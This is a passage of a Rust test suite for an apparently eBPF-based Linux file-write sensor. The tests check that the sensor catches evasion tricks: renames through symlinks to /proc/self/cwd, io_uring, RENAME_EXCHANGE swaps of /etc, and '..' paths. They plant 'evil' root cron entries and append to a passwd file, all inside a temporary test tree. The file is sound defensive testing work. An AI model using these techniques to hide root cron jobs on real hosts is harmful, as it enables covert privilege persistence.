    std::os::unix::fs::symlink("/usr", other.join("u")).expect("symlink");
    let ln = |target: &str, link: &str| run("ln", &["-s", target, link], &other);
    let up_to_root = "../".repeat(other.components().count() - 1);
    let relative = format!("{up_to_root}proc/self/cwd");
    let through_link = format!("{}/u/../proc/self/cwd", other.display());
    let reported = [
        (ln("/proc/self/cwd", "cwd"), "cwd", "/proc/self/cwd"),
        (ln("/proc/self/fd/3", "fd3"), "fd3", "/proc/self/fd/3"),
        (ln("/proc", "proc"), "proc", "/proc"),
        (ln("/dev", "dev"), "dev", "/dev"),
        (ln("/dev/fd", "devfd"), "devfd", "/dev/fd"),
        (ln(&relative, "relative"), "relative", relative.as_str()),
        (
            ln(&through_link, "through"),
            "through",
            through_link.as_str(),
        ),
        // A runtime's name, another target.
        (
            ln("/proc/self/cwd", "ctr/dev/stdout"),
            "ctr/dev/stdout",
            "/proc/self/cwd",
        ),
        // A runtime's link, made from the host's mount namespace.
        (
            ln("/proc/self/fd", "host/dev/fd"),
            "host/dev/fd",
            "/proc/self/fd",
        ),
    ];
    // Quiet: what a runtime makes in a container's `/dev`, from the
    // container's mount namespace, by a process that lives on (perl's
    // `symlink`, where `ln` would exit at once); `/etc/mtab`.
    let mut unshare = Command::new("unshare");
    unshare.args(["-m", "perl", "-e"]).arg(
        "for (['/proc/self/fd', 'fd'], ['/proc/self/fd/0', 'stdin'], \
         ['/proc/self/fd/2', 'stderr'], ['/proc/kcore', 'core']) \
         { symlink($_->[0], \"ctr/dev/$_->[1]\") or die \"$!\" } \
         $| = 1; print \"made\\n\"; sleep 60",
    );
    unshare.current_dir(&other);
    let mut runtime = sensor_tests::spawned_until(unshare, "made");
    ln("/proc/self/mounts", "mtab");
    ln("/proc/mounts", "ctr/mtab");
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        &tree.root,
    );
    for (pid, link, target) in reported {
        let ev = sensor.wait_for(&format!("the symlink {link} -> {target}"), |v| {
            write_by(v, "symlink", pid)
        });
        assert_eq!(
            at(&ev, "file.path").as_str(),
            other.join(link).to_str(),
            "{ev}"
        );
        assert_eq!(at(&ev, "file.target_path"), target, "as written: {ev}");
        assert_eq!(
            at(&ev, "sensor.file_write.matched_by"),
            "target_magic_link",
            "{ev}"
        );
        assert!(at(&ev, "sensor.file_write.watched").is_null(), "{ev}");
        assert!(at(&ev, "sensor.file_write.unresolved").is_null(), "{ev}");
        assert_eq!(at(&ev, "event.outcome"), "success", "{ev}");
    }
    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    let _ = runtime.kill();
    let _ = runtime.wait();
    let quiet_paths = [
        "ctr/dev/fd",
        "ctr/dev/stdin",
        "ctr/dev/stderr",
        "ctr/dev/core",
        "mtab",
        "ctr/mtab",
        "u",
    ]
    .map(|l| other.join(l));
    let quiet_links = reported_for(&sensor, &["symlink"], &quiet_paths);
    assert!(
        quiet_links.is_empty(),
        "a runtime's /dev links or links to /proc files were reported: {quiet_links:?}"
    );
}

/// A path through a symlink to a magic link (`other/c -> /proc/self/cwd`)
/// names no watched path, whatever directory it leads to. Once the link
/// was seen made, such paths are sent by the kernel's path check too, and
/// followed from where the link leads: the caller's cwd at the call,
/// here the cron directory, also where it moved on or exited before the
/// daemon could look. So are paths through a link to that link (by an absolute
/// or a relative target), and through the link renamed (by absolute or
/// relative names). Links removed are let go.
#[test]
fn paths_through_a_symlink_to_a_magic_link_are_followed() {
    let tree = Tree::new();
    let state = sensor_tests::scratch_dir("sensor-magic-links");
    let config = format!("{}[telemetry]\nheartbeat_interval_s = 1\n", tree.config());
    let sensor = Sensor::start_in(&state, &config);
    let other = tree.path("other");
    let cron = tree.path("etc/cron.d");
    let cron_label = format!("{}/", cron.display());
    let o = other.to_str().expect("utf-8");
    let made = run("ln", &["-s", "/proc/self/cwd", "c"], &other);
    sensor.wait_for("the symlink", |v| write_by(v, "symlink", made));
    // Counted (other tests' links too: every sensor sees them).
    sensor.wait_for("the link counted", |v| {
        action(v) == "heartbeat"
            && at(v, "sensor.heartbeat.magic_links.tracked").as_u64() >= Some(1)
    });
    let chained = run("ln", &["-s", &format!("{o}/c"), "d"], &other);
    let chain = sensor.wait_for("the link to the link", |v| write_by(v, "symlink", chained));
    // Relative: joined to the link's directory.
    let relative = run("ln", &["-s", "c", &format!("{o}/r")], &other);
    let relative = sensor.wait_for("the relative link to the link", |v| {
        write_by(v, "symlink", relative)
    });
    for ev in [&chain, &relative] {
        assert_eq!(
            at(ev, "sensor.file_write.matched_by"),
            "target_magic_link",
            "{ev}"
        );
    }
    for payload in ["payload", "payload2", "payload3", "payload4", "payload5"] {
        std::fs::write(other.join(payload), b"* * * * * root /tmp/x\n").expect("write");
    }
    let from_cron = |script: &str| perl_living_on_in(&cron, script);
    let into_cron = |ev: &Value, name: &str, argument: &str| {
        assert_renamed_by_path(
            ev,
            &cron.join(name),
            &format!("{o}/{argument}"),
            &cron_label,
        )
    };
    let wait_by = |act: &str, pid: u32, what: &str| {
        sensor.wait_for(what, |v| write_by(v, act, u64::from(pid)))
    };

    let mover = from_cron(&format!(
        "rename('{o}/payload', '{o}/c/evil') or die \"$!\"; \
         unlink('{o}/c/evil') or die \"$!\"; \
         rename('{o}/payload2', '{o}/d/evil2') or die \"$!\"; \
         rename('{o}/payload5', '{o}/r/evil5') or die \"$!\";"
    ));
    let pid = mover.id();
    let renamed = wait_by("rename", pid, "the rename through the link");
    let unlinked = wait_by("unlink", pid, "the unlink through the link");
    let into = |name: &str, what: &str| {
        sensor.wait_for(what, |v| {
            write_by(v, "rename", u64::from(pid))
                && at(v, "sensor.file_write.new_path").as_str() == cron.join(name).to_str()
        })
    };
    let chain_renamed = into("evil2", "the rename through the link's link");
    let relative_renamed = into("evil5", "the rename through the relative link");
    stop(mover);
    into_cron(&renamed, "evil", "c/evil");
    assert_eq!(
        at(&unlinked, "file.path").as_str(),
        cron.join("evil").to_str(),
        "{unlinked}"
    );
    assert_eq!(
        at(&unlinked, "sensor.file_write.path_argument"),
        format!("{o}/c/evil").as_str(),
        "{unlinked}"
    );
    assert_eq!(at(&unlinked, "sensor.file_write.matched_by"), "path");
    into_cron(&chain_renamed, "evil2", "d/evil2");
    into_cron(&relative_renamed, "evil5", "r/evil5");

    // The link renamed (quiet), by absolute names and then a relative
    // one: followed under its new name, once the daemon has read the
    // renames (the control append after them).
    run("mv", &[&format!("{o}/c"), &format!("{o}/moved1")], &other);
    run("mv", &["moved1", "moved"], &other);
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        &tree.root,
    );
    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    // The mover then leaves the cron directory at once: followed from
    // its cwd at the call (the kernel's), not from where it is by the
    // time the daemon looks.
    let mover = from_cron(&format!(
        "rename('{o}/payload3', '{o}/moved/evil3') or die \"$!\"; chdir('/') or die \"$!\";"
    ));
    let moved = wait_by("rename", mover.id(), "the rename through the moved link");
    stop(mover);
    into_cron(&moved, "evil3", "moved/evil3");

    // `mv`, which exits before the daemon could read its cwd.
    let mv = run(
        "mv",
        &[&format!("{o}/payload4"), &format!("{o}/moved/evil4")],
        &cron,
    );
    let ev = sensor.wait_for("mv through the link", |v| write_by(v, "rename", mv));
    into_cron(&ev, "evil4", "moved/evil4");

    // Removed (`c` by the rename): let go.
    let ours = ["c", "moved1", "moved", "d", "r"].map(|l| format!("{o}/{l}").into_bytes());
    let live = |kept: &[Vec<u8>]| ours[2..].iter().all(|l| kept.contains(l));
    assert!(
        live(&kept_magic_links_until(&state, live)),
        "moved, d and r kept"
    );
    for link in ["moved", "d", "r"] {
        std::fs::remove_file(other.join(link)).expect("rm");
    }
    let kept = kept_magic_links_until(&state, |kept| !ours.iter().any(|l| kept.contains(l)));
    assert!(
        !ours.iter().any(|l| kept.contains(l)),
        "{:?}",
        kept.iter()
            .map(|l| l.escape_ascii().to_string())
            .collect::<Vec<_>>()
    );
}

/// A symlink through a magic link used at once, before the daemon can
/// have read the record that made it (its path is not in the kernel's
/// path check yet), and removed right after: the rename through it is
/// followed into the cron directory all the same. Until the daemon has
/// handled a symlink the kernel sent, the kernel sends every call with a
/// path argument; the link's target is the one the records before the
/// rename's said; the cwd is the one the kernel walked at the call.
#[test]
fn a_symlink_to_a_magic_link_used_at_once_and_removed_is_followed() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let other = tree.path("other");
    let cron = tree.path("etc/cron.d");
    let cron_label = format!("{}/", cron.display());
    let o = other.to_str().expect("utf-8");
    for payload in ["payload", "payload2", "payload3"] {
        std::fs::write(other.join(payload), b"* * * * * root /tmp/x\n").expect("write");
    }
    // One process, microseconds apart: the link, the rename, the link
    // removed, the cron directory left.
    let perl = perl_living_on_in(
        &cron,
        &format!(
            "symlink('/proc/self/cwd', '{o}/c') or die \"$!\"; \
             rename('{o}/payload', '{o}/c/evil') or die \"$!\"; \
             unlink('{o}/c') or die \"$!\"; chdir('/') or die \"$!\";"
        ),
    );
    let renamed = sensor.wait_for("the rename through the new link", |v| {
        write_by(v, "rename", u64::from(perl.id()))
    });
    stop(perl);
    assert_renamed_by_path(
        &renamed,
        &cron.join("evil"),
        &format!("{o}/c/evil"),
        &cron_label,
    );
    // A script's way: each a process of its own.
    let cron_dir = cron.to_str().expect("utf-8");
    sh(
        &format!(
            "ln -s /proc/self/cwd {o}/s && cd {cron_dir} && mv {o}/payload2 {o}/s/evil2 && rm {o}/s"
        ),
        &other,
    );
    let moved = sensor.wait_for("mv through the new link", |v| {
        action(v) == "rename"
            && at(v, "process.name") == "mv"
            && at(v, "sensor.file_write.second_path_argument").as_str()
                == Some(&format!("{o}/s/evil2"))
    });
    assert_renamed_by_path(
        &moved,
        &cron.join("evil2"),
        &format!("{o}/s/evil2"),
        &cron_label,
    );
    // From a thread other than the leader (a Go program's calls come
    // from any of its threads), whose process moves on right after: its
    // cwd at the call was the leader's too, which the kernel saw.
    let mut python = Command::new("python3");
    python.arg("-c").arg(format!(
        "import os, threading, time\n\
         os.symlink('/proc/self/cwd', '{o}/t')\n\
         t = threading.Thread(target=lambda: os.rename('{o}/payload3', '{o}/t/evil3'))\n\
         t.start(); t.join(); os.unlink('{o}/t'); os.chdir('/')\n\
         print('done', flush=True); time.sleep(60)"
    ));
    python.current_dir(&cron);
    let python = sensor_tests::spawned_until(python, "done");
    let threaded = sensor.wait_for("the rename from a thread", |v| {
        write_by(v, "rename", u64::from(python.id()))
    });
    stop(python);
    let tid = at(&threaded, "process.thread.id").as_u64();
    assert!(tid.is_some_and(|t| t != pid_of(&threaded)), "{threaded}");
    assert_renamed_by_path(
        &threaded,
        &cron.join("evil3"),
        &format!("{o}/t/evil3"),
        &cron_label,
    );
}

/// A symlink to a magic link made through an io_uring ring is followed
/// as one made by syscall: its maker's rename through it right after the
/// request completes (before the daemon could have read the request), and
/// one made three seconds after its request was submitted (linked behind
/// a read of a pipe): refreshes in between must not let go of a link not
/// made yet, and the kernel's wait for the daemon is long over by then.
/// So is such a link renamed or hard-linked through a ring, under its new
/// name (also one given relative to a directory fd of its own while the
/// old name is absolute). Each maker exits at once.
#[test]
fn a_symlink_to_a_magic_link_named_through_a_ring_is_followed() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let other = tree.path("other");
    let cron = tree.path("etc/cron.d");
    let o = other.to_str().expect("utf-8");
    let [r, late, r2, moved, moved2, linked] =
        ["r", "late", "r2", "moved", "moved2", "linked"].map(|n| format!("{o}/{n}"));
    for (op, old, link, delay_ms) in [
        ("symlink", "/proc/self/cwd", &r, "0"),
        ("symlink", "/proc/self/cwd", &late, "3000"),
        ("symlink", "/proc/self/cwd", &r2, "0"),
        ("rename", &r, &moved, "0"),
        // The new name relative to a directory fd, the old one absolute.
        ("rename-into-dir", &r2, &moved2, "0"),
        ("link", &late, &linked, "0"),
    ] {
        let name = &link[o.len() + 1..];
        let payload = format!("{o}/payload-{name}");
        std::fs::write(&payload, b"* * * * * root /tmp/x\n").expect("write");
        let through = format!("{link}/evil-{name}");
        let actor = Command::new(env!("CARGO_BIN_EXE_actor"))
            .args(["io-uring-name-then-rename", op, old, link])
            .args([&payload, &through, delay_ms])
            .current_dir(&cron)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("actor");
        let pid = u64::from(actor.id());
        let out = actor.wait_with_output().expect("actor");
        assert!(out.status.success(), "{out:?}");
        let renamed = sensor.wait_for(&format!("the rename through {link}"), |v| {
            write_by(v, "rename", pid)
        });
        assert_renamed_by_path(
            &renamed,
            &cron.join(format!("evil-{name}")),
            &through,
            &format!("{}/", cron.display()),
        );
    }
}

/// Perl in the cron directory `cron` renames `payload` to `evil` below
/// `link` (a symlink to its cwd), and lives on: the rename is reported
/// followed into `cron`.
fn rename_into_cron_through(sensor: &Sensor, cron: &Path, payload: &str, link: &str) {
    let mover = perl_living_on_in(
        cron,
        &format!("rename('{payload}', '{link}/evil') or die \"$!\";"),
    );
    let renamed = sensor.wait_for(&format!("the rename through {link}"), |v| {
        write_by(v, "rename", u64::from(mover.id()))
    });
    stop(mover);
    assert_renamed_by_path(
        &renamed,
        &cron.join("evil"),
        &format!("{link}/evil"),
        &format!("{}/", cron.display()),
    );
}

/// The paths of the symlinks through magic links the sensor keeps in its
/// state directory `state`, once `done` holds of them (or 10 s passed).
fn kept_magic_links_until(state: &Path, done: impl Fn(&[Vec<u8>]) -> bool) -> Vec<Vec<u8>> {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let file = std::fs::read(state.join("magic-links.json")).unwrap_or_default();
        let links: Vec<Value> = serde_json::from_slice(&file).unwrap_or_default();
        let paths: Vec<Vec<u8>> = links
            .iter()
            .map(|l| {
                let bytes = at(l, "link.path").as_array().cloned().unwrap_or_default();
                bytes
                    .iter()
                    .filter_map(|b| b.as_u64())
                    .map(|b| b as u8)
                    .collect()
            })
            .collect();
        if done(&paths) || std::time::Instant::now() > deadline {
            return paths;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// A restart does not make the sensor forget a symlink through a magic
/// link: the links are kept in the state directory, and those removed
/// while it was down are let go.
#[test]
fn symlinks_through_magic_links_are_followed_after_a_restart() {
    let tree = Tree::new();
    let state = sensor_tests::scratch_dir("sensor-magic-restart");
    let config = format!("{}[telemetry]\nheartbeat_interval_s = 1\n", tree.config());
    let other = tree.path("other");
    let cron = tree.path("etc/cron.d");
    let o = other.to_str().expect("utf-8");
    let sensor = Sensor::start_in(&state, &config);
    for link in ["c", "gone"] {
        let made = run("ln", &["-s", "/proc/self/cwd", link], &other);
        sensor.wait_for("the symlink", |v| write_by(v, "symlink", made));
    }
    sensor.stop();
    std::fs::remove_file(other.join("gone")).expect("rm");
    std::fs::write(other.join("payload"), b"* * * * * root /tmp/x\n").expect("write");

    let sensor = Sensor::start_in(&state, &config);
    rename_into_cron_through(&sensor, &cron, &format!("{o}/payload"), &format!("{o}/c"));
    let [c, gone] = [format!("{o}/c"), format!("{o}/gone")].map(String::into_bytes);
    let kept = kept_magic_links_until(&state, |kept| kept.contains(&c) && !kept.contains(&gone));
    assert!(kept.contains(&c) && !kept.contains(&gone));
}

/// A symlink through a magic link swapped with a directory by a
/// `RENAME_EXCHANGE` (`mv --exchange c d`) is followed under the name that
/// holds it now, and no longer under the one that holds the directory.
#[test]
fn a_symlink_to_a_magic_link_exchanged_with_a_directory_is_followed_under_its_new_name() {
    let tree = Tree::new();
    let state = sensor_tests::scratch_dir("sensor-magic-exchange");
    let other = tree.path("other");
    let cron = tree.path("etc/cron.d");
    let o = other.to_str().expect("utf-8");
    std::fs::create_dir(other.join("d")).expect("mkdir");
    std::fs::write(other.join("payload"), b"* * * * * root /tmp/x\n").expect("write");
    let sensor = Sensor::start_in(&state, &tree.config());
    let made = run("ln", &["-s", "/proc/self/cwd", "c"], &other);
    sensor.wait_for("the symlink", |v| write_by(v, "symlink", made));
    let [c, d] = [format!("{o}/c"), format!("{o}/d")].map(String::into_bytes);
    assert!(kept_magic_links_until(&state, |kept| kept.contains(&c)).contains(&c));
    // renameat2(AT_FDCWD, "d", AT_FDCWD, "c", RENAME_EXCHANGE), by its
    // x86_64 number (coreutils' `mv --exchange` is newer than some
    // hosts'): the link is the second name, which the first now holds.
    run(
        "perl",
        &[
            "-e",
            "my ($c, $d) = ('c', 'd'); syscall(316, -100, $d, -100, $c, 2) == 0 or die \"$!\"",
        ],
        &other,
    );
    assert!(std::fs::symlink_metadata(other.join("d")).is_ok_and(|m| m.is_symlink()));
    let kept = kept_magic_links_until(&state, |kept| kept.contains(&d) && !kept.contains(&c));
    let shown: Vec<String> = kept.iter().map(|k| k.escape_ascii().to_string()).collect();
    assert!(kept.contains(&d) && !kept.contains(&c), "{shown:?}");
    rename_into_cron_through(&sensor, &cron, &format!("{o}/payload"), &format!("{o}/d"));
}

/// A symlink through a magic link made before the sensor started, in a
/// temporary directory anyone can write to (the test's tree is in /tmp),
/// is found at start, followed and kept.
#[test]
fn a_symlink_to_a_magic_link_made_before_the_sensor_started_is_followed() {
    let tree = Tree::new();
    assert!(
        tree.root.starts_with("/tmp"),
        "the tree must be in /tmp, where the sensor looks: TMPDIR is set elsewhere"
    );
    let state = sensor_tests::scratch_dir("sensor-magic-before");
    let other = tree.path("other");
    let cron = tree.path("etc/cron.d");
    let o = other.to_str().expect("utf-8");
    std::os::unix::fs::symlink("/proc/self/cwd", other.join("pre")).expect("symlink");
    std::fs::write(other.join("payload"), b"* * * * * root /tmp/x\n").expect("write");

    let sensor = Sensor::start_in(&state, &tree.config());
    let found = sensor.wait_for("the planted link found", |v| {
        action(v) == "magic_link_found" && at(v, "file.path").as_str() == Some(&format!("{o}/pre"))
    });
    assert_eq!(at(&found, "file.target_path"), "/proc/self/cwd", "{found}");
    assert_eq!(at(&found, "event.category")[0], "file", "{found}");
    rename_into_cron_through(&sensor, &cron, &format!("{o}/payload"), &format!("{o}/pre"));
    let pre = format!("{o}/pre").into_bytes();
    assert!(kept_magic_links_until(&state, |kept| kept.contains(&pre)).contains(&pre));
}

/// Two paths relative to two directory fds: coreutils' `mv job
/// /etc/cron.d/` (9.0 on) is `renameat2(AT_FDCWD, "job", <fd of cron.d>,
/// "job")`, and its `ln` likewise. The second path's directory is walked
/// too: the event names where the file went (before, the new name alone
/// was known, no watched path matched it, and the rename was not
/// reported at all), and where a link's file is.
#[test]
fn a_second_path_relative_to_its_own_directory_fd_names_where_it_went() {
    use std::os::fd::AsRawFd;
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let cron = tree.path("etc/cron.d");
    for name in ["job", "raw", "to-link"] {
        std::fs::write(
            tree.path(&format!("other/{name}")),
            b"* * * * * root /tmp/x\n",
        )
        .expect("write");
    }
    // coreutils, from the tree: a relative source, a directory target.
    let mv = run("mv", &["other/job", "etc/cron.d/"], &tree.root);
    let ln = run("ln", &["other/to-link", "etc/cron.d/"], &tree.root);
    // The syscall, from this process: relative to two directory fds.
    let other_fd = std::fs::File::open(tree.path("other")).expect("open other");
    let cron_fd = std::fs::File::open(&cron).expect("open the cron directory");
    // SAFETY: two NUL-terminated strings that outlive the call.
    let r = unsafe {
        libc::renameat(
            other_fd.as_raw_fd(),
            c"raw".as_ptr(),
            cron_fd.as_raw_fd(),
            c"raw-moved".as_ptr(),
        )
    };
    assert_eq!(r, 0, "renameat: {}", std::io::Error::last_os_error());
    let me = u64::from(std::process::id());

    let cron_dir = format!("{}/", cron.display());
    let moved = |pid: u64, from: &str, to: &str, argument: &str| {
        let from = tree.path(from);
        let ev = sensor.wait_for(&format!("the rename of {from:?}"), |v| {
            write_by(v, "rename", pid)
                && at(v, "file.path").as_str() == from.to_str()
                && at(v, "event.outcome") == "success"
        });
        assert_renamed_by_path(&ev, &cron.join(to), argument, &cron_dir);
    };
    moved(mv, "other/job", "job", "job");
    moved(me, "other/raw", "raw-moved", "raw-moved");
    let linked = cron.join("to-link");
    let ev = sensor.wait_for("the hard link into the cron directory", |v| {
        write_by(v, "link", ln)
            && at(v, "file.path").as_str() == linked.to_str()
            && at(v, "event.outcome") == "success"
    });
    assert_eq!(
        at(&ev, "file.target_path").as_str(),
        tree.path("other/to-link").to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.watched"),
        cron_dir.as_str(),
        "{ev}"
    );
}

/// A rename of a directory above a watched path moves the watched path
/// away, and one over it (a `RENAME_EXCHANGE` with a tree prepared
/// elsewhere) puts another tree in its place, by a path that no watched
/// path's hash prefixes: reported, `matched_by: above`, naming the first
/// watched path below it. Renames of other files stay quiet.
#[test]
fn renames_of_directories_above_watched_paths_are_reported() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let text = |rel: &str| tree.path(rel).to_str().expect("utf-8").to_owned();
    let ssh_dir = format!("{}/", tree.path("home/alice/.ssh").display());
    std::fs::create_dir_all(tree.path("other/fake-etc/cron.d")).expect("mkdir");
    std::fs::create_dir_all(tree.path("other/plain")).expect("mkdir");

    // Relative, several components: joined by the daemon.
    let away = run("mv", &["home/alice", "other/alice"], &tree.root);
    // Absolute, back: the new name is the directory above.
    let back = run(
        "mv",
        &[&text("other/alice"), &text("home/alice")],
        &tree.root,
    );
    // Relative, one component: decided by the directory's inode.
    let relative_away = run("mv", &["alice", "alice2"], &tree.path("home"));
    let relative_back = run("mv", &["alice2", "alice"], &tree.path("home"));
    // The legacy call, and an exchange of the whole tree, from here.
    let me = u64::from(std::process::id());
    let (home, moved) = (c_str(&tree.path("home")), c_str(&tree.path("other/home")));
    // SAFETY: NUL-terminated strings that outlive the calls.
    let r = unsafe { libc::syscall(libc::SYS_rename, home.as_ptr(), moved.as_ptr()) };
    assert_eq!(r, 0, "rename: {}", std::io::Error::last_os_error());
    // SAFETY: as above.
    let r = unsafe { libc::syscall(libc::SYS_rename, moved.as_ptr(), home.as_ptr()) };
    assert_eq!(r, 0, "rename back: {}", std::io::Error::last_os_error());
    let (etc, fake) = (
        c_str(&tree.path("etc")),
        c_str(&tree.path("other/fake-etc")),
    );
    const RENAME_EXCHANGE: libc::c_uint = 2;
    for _ in 0..2 {
        // SAFETY: as above.
        let r = unsafe {
            libc::syscall(
                libc::SYS_renameat2,
                libc::AT_FDCWD,
                fake.as_ptr(),
                libc::AT_FDCWD,
                etc.as_ptr(),
                RENAME_EXCHANGE,
            )
        };
        assert_eq!(r, 0, "renameat2: {}", std::io::Error::last_os_error());
    }
    // Quiet: a directory above nothing watched, absolute and relative, and
    // a file in one above.
    let plain = run(
        "mv",
        &[&text("other/plain"), &text("other/plain2")],
        &tree.root,
    );
    let plain_relative = run("mv", &["plain2", "plain3"], &tree.path("other"));
    let hostname = run(
        "mv",
        &[&text("etc/hostname"), &text("etc/hostname2")],
        &tree.root,
    );
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        &tree.root,
    );

    for (pid, what, path, new_path, watched) in [
        (
            away,
            "a rename away",
            text("home/alice"),
            text("other/alice"),
            ssh_dir.clone(),
        ),
        (
            back,
            "a rename back",
            text("other/alice"),
            text("home/alice"),
            ssh_dir.clone(),
        ),
        (
            relative_away,
            "a rename by a relative name",
            text("home/alice"),
            text("home/alice2"),
            ssh_dir.clone(),
        ),
        (
            relative_back,
            "a rename back by a relative name",
            text("home/alice2"),
            text("home/alice"),
            ssh_dir.clone(),
        ),
    ] {
        let ev = sensor.wait_for(what, |v| write_by(v, "rename", pid));
        assert_eq!(at(&ev, "file.path"), path.as_str(), "{ev}");
        assert_eq!(
            at(&ev, "sensor.file_write.new_path"),
            new_path.as_str(),
            "{ev}"
        );
        assert_eq!(
            at(&ev, "sensor.file_write.watched"),
            watched.as_str(),
            "{ev}"
        );
        assert_eq!(at(&ev, "sensor.file_write.matched_by"), "above", "{ev}");
        assert_eq!(at(&ev, "event.outcome"), "success", "{ev}");
    }
    let mine = |syscall: &str, path: &str| {
        let ev = sensor.wait_for(&format!("{syscall} of {path}"), |v| {
            write_by(v, "rename", me)
                && at(v, "sensor.syscall") == syscall
                && at(v, "file.path").as_str() == Some(path)
        });
        assert_eq!(at(&ev, "sensor.file_write.matched_by"), "above", "{ev}");
        ev
    };
    let ev = mine("rename", &text("home"));
    assert_eq!(
        at(&ev, "sensor.file_write.watched"),
        ssh_dir.as_str(),
        "{ev}"
    );
    assert!(at(&ev, "sensor.file_write.rename_flags").is_null(), "{ev}");
    mine("rename", &text("other/home"));
    let ev = mine("renameat2", &text("other/fake-etc"));
    // A swap: the watched tree now holds the other.
    assert_eq!(
        at(&ev, "sensor.file_write.rename_flags"),
        &serde_json::json!(["RENAME_EXCHANGE"]),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.new_path").as_str(),
        Some(text("etc").as_str()),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        Some(text("etc/passwd").as_str()),
        "{ev}"
    );

    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    let quiet: Vec<Value> = sensor
        .events()
        .into_iter()
        .filter(|v| {
            [plain, plain_relative, hostname]
                .iter()
                .any(|&pid| write_by(v, "rename", pid))
        })
        .collect();
    assert!(
        quiet.is_empty(),
        "renames of nothing watched were reported: {quiet:?}"
    );
}

/// Where fentry is refused, the kernel matches a path argument by its
/// bytes, and the daemon made it normal lexically: after a symlink, a `..`
/// goes to the parent of the link's target (`other/l/../cron.d/x` with
/// `other/l -> etc/foo` is `etc/cron.d/x`), and a magic link
/// (`/proc/PID/cwd/x`) wherever its process is. Such paths are followed
/// again in the daemon, and reported where they really led (the cwd of
/// an exited caller from the kernel's walk at the call); where that
/// cannot be known any more (the link removed since, the caller exited
/// with its `/proc/self/root`), the call is reported, saying why. Before, each
/// of these renames into a watched directory went unseen.
#[test]
fn paths_that_lead_elsewhere_than_their_bytes_are_followed() {
    let tree = Tree::new();
    let sensor = Sensor::start(&format!(
        "{}[telemetry]\nheartbeat_interval_s = 1\n",
        tree.config()
    ));
    let root = tree.root.to_str().expect("utf-8").to_owned();
    std::fs::create_dir_all(tree.path("etc/foo")).expect("mkdir");
    std::os::unix::fs::symlink(tree.path("etc/foo"), tree.path("other/l")).expect("symlink");
    for name in ["a", "b", "c", "d", "e", "f", "h"] {
        std::fs::write(tree.path(&format!("other/{name}")), b"x").expect("write");
    }
    let cron = |name: &str| tree.path(&format!("etc/cron.d/{name}"));
    let cron_dir = format!("{}/", tree.path("etc/cron.d").display());

    // Through the symlink and up: absolute, then relative.
    let up_absolute = format!("{root}/other/l/../cron.d/a");
    let a = run("mv", &["other/a", &up_absolute], &tree.root);
    let b = run("mv", &["b", "l/../cron.d/b"], &tree.path("other"));
    // Quiet: up through the symlink, and nowhere watched (lexically
    // `other/foo/c`, where nothing is).
    let c = run("mv", &["c", "l/../foo/c"], &tree.path("other"));
    // A magic link of a live process: the shell's cwd.
    let mut sh_mv = Command::new("sh");
    sh_mv.args([
        "-c",
        &format!("mv {root}/other/d /proc/$$/cwd/d && echo moved && exec sleep 60"),
    ]);
    sh_mv.current_dir(tree.path("etc/cron.d"));
    let mut shell = sensor_tests::spawned_until(sh_mv, "moved");

    // Each read (in order: c's too) before the link goes.
    // (The shell's mv is a child of its own.)
    let by_argument = |v: &Value, argument: &str| {
        action(v) == "rename"
            && at(v, "sensor.file_write.second_path_argument").as_str() == Some(argument)
    };
    let followed = [
        (Some(a), up_absolute.clone(), cron("a")),
        (Some(b), "l/../cron.d/b".to_owned(), cron("b")),
        (None, format!("/proc/{}/cwd/d", shell.id()), cron("d")),
    ];
    for (pid, argument, physical) in &followed {
        let ev = sensor.wait_for(&format!("mv to {argument}"), |v| {
            by_argument(v, argument) && pid.is_none_or(|p| pid_of(v) == p)
        });
        assert_renamed_by_path(&ev, physical, argument, &cron_dir);
        assert!(at(&ev, "sensor.file_write.unresolved").is_null(), "{ev}");
    }
    // With the sensor stopped, the link is removed after the rename
    // through it, and callers through their own `/proc/self` exit: the
    // daemon cannot follow the first two when it reads them, only the
    // cwd's, which the kernel walked at the call.
    let stopped = Stopped::new(&sensor);
    let e = run(
        "mv",
        &["other/e", &format!("{root}/other/l/../cron.d/e")],
        &tree.root,
    );
    std::fs::remove_file(tree.path("other/l")).expect("rm link");
    let f = run(
        "mv",
        &[&format!("{root}/other/f"), "/proc/self/cwd/f"],
        &cron(""),
    );
    let through_root = format!("/proc/self/root{root}/etc/cron.d/h");
    let h = run(
        "mv",
        &[&format!("{root}/other/h"), &through_root],
        &cron(""),
    );
    // Quiet: a call that found nothing either (ENOENT), through the
    // removed link.
    let g = run(
        "perl",
        &["-e", "rename('nothing', 'other/l/../cron.d/g') and die"],
        &tree.root,
    );
    drop(stopped);

    let fentry = sensor_tests::fentry_loads();
    for (pid, argument, lexical, why) in [
        (
            e,
            format!("{root}/other/l/../cron.d/e"),
            tree.path("other/cron.d/e"),
            "gone",
        ),
        (
            h,
            through_root.clone(),
            through_root.clone().into(),
            "exited",
        ),
    ] {
        let ev = sensor.wait_for(&format!("mv to {argument}"), |v| write_by(v, "rename", pid));
        assert_eq!(at(&ev, "sensor.file_write.unresolved"), why, "{ev}");
        // The hooks, where they load, saw the watched directory's inode.
        if !fentry {
            assert_eq!(
                at(&ev, "sensor.file_write.new_path").as_str(),
                lexical.to_str(),
                "{ev}"
            );
            assert_eq!(
                at(&ev, "sensor.file_write.matched_by"),
                "unresolved",
                "{ev}"
            );
            assert!(at(&ev, "sensor.file_write.watched").is_null(), "{ev}");
        }
    }
    let ev = sensor.wait_for("mv to /proc/self/cwd/f", |v| write_by(v, "rename", f));
    assert_renamed_by_path(&ev, &cron("f"), "/proc/self/cwd/f", &cron_dir);
